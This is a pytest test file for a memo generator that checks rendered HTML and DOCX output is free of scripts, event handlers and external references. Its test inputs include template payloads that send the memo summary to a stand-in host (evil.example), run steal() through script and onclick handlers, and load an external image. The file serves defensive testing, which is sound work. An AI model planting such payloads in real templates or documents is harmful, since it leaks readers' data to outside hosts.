"""No memo holds a script, a handler or an external reference, whatever its template."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import docx
import pytest
from support.hostile_templates import template_folder
from support.sample_briefs import sample_brief

from briefgen.model import Brief
from briefgen.render import BriefTemplate, render_docx, render_html
from briefgen.render.active_content import active_html, strip_active_html
from briefgen.render.templates.manifest import read_manifest

_ACTIVE_OUTPUT = re.compile(r"<script|\son[a-z]+\s*=|javascript:|\ssrc\s*=|<link\b[^>]*href|"
                            r"url\(|@import|<iframe|<object|<embed", re.I)


def test_every_builtin_output_holds_no_script_or_external_reference(
        builtin: BriefTemplate, variant: tuple[str, Brief]) -> None:
    _name, brief = variant
    for preview in (False, True):
        html = render_html(brief, builtin, preview=preview)
        assert not _ACTIVE_OUTPUT.search(html)
        assert active_html(html) == []
    data = render_docx(brief, builtin)
    with zipfile.ZipFile(__import__("io").BytesIO(data)) as archive:
        rels = [archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels")]
    assert not any('TargetMode="External"' in r and "/hyperlink" not in r for r in rels)


@pytest.mark.parametrize(
    "body",
    [
        "<img {{ 'src' }}=\"http://evil.example/p?{{ summary.text|urlencode }}\">",
        "<p {{ 'onclick' }}=\"steal()\">x</p>",
        "<{{ 'script' }}>steal()</{{ 'script' }}>",
    ],
)
def test_what_an_untrusted_template_still_renders_is_stripped(tmp_path: Path,
                                                              body: str) -> None:
    template = read_manifest(template_folder(tmp_path, "sly", body=body), "user")
    html = render_html(sample_brief(), template)
    assert not _ACTIVE_OUTPUT.search(html)
    assert "evil.example" not in html
    assert "steal()" not in html.replace(">steal()<", "")
    assert "Norvalia" in html  # the memo itself is still there


def test_stripping_leaves_a_clean_document_unchanged() -> None:
    html = "<!DOCTYPE html>\n<html><body><p>Trade &amp; tariffs</p></body></html>\n"
    assert strip_active_html(html) is html


def test_an_external_image_is_dropped_from_the_memo_and_hyperlinks_stay(
        tmp_path: Path) -> None:
    def external(name: str, data: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", (
                b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/image" Target="http://evil.example/p.png"'
                b' TargetMode="External"/><Relationship Id="rIdY" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
                b'Target="https://example.org/" TargetMode="External"/></Relationships>'))
        return data

    template = read_manifest(template_folder(tmp_path, "ext", docx_edit=external), "user")
    out = tmp_path / "memo.docx"
    out.write_bytes(render_docx(sample_brief(), template))
    rels = zipfile.ZipFile(out).read("word/_rels/document.xml.rels").decode()
    assert "evil.example" not in rels
    assert "https://example.org/" in rels
    assert "Norvalia" in "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
